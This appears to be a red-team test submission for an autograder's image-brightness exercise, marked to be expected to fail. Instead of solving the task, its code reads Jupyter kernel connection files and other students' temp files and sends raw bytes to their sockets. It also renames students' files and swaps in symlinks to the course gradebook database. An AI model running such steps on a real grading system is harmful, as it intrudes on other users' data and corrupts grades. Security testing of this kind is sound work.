"""Connects to its own kernel's sockets, and takes the files of them away.

exercise: 01-images-as-data/adjust_brightness
points: 0
must: failed | crashed | timeout
"""
import glob
import json
import os
import socket

place = os.path.dirname(get_ipython().config.get("IPKernelApp", {}).get("connection_file", "") or "/none/k.json")
for path in [*glob.glob("/var/tmp/student-*/*"), *glob.glob(f"{place}/*")]:
    print(path)
    if path.endswith(".json"):
        print(json.load(open(path)).keys())
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.2)
            line.connect(path)
            line.sendall(b"\xff\0\0\0\0\0\0\0\1\x7f\3\0NULL" + b"\0" * 100)
            print("redteam: heard", line.recv(100))
    except OSError as error:
        print(error)
for path in glob.glob("/var/tmp/student-*/*"):
    try:
        os.replace(path, path + "-redteam")
        os.symlink("__COURSE__/gradebook.db", path)
    except OSError as error:
        print(error)


def adjust_brightness(image, amount):
    return image * 0
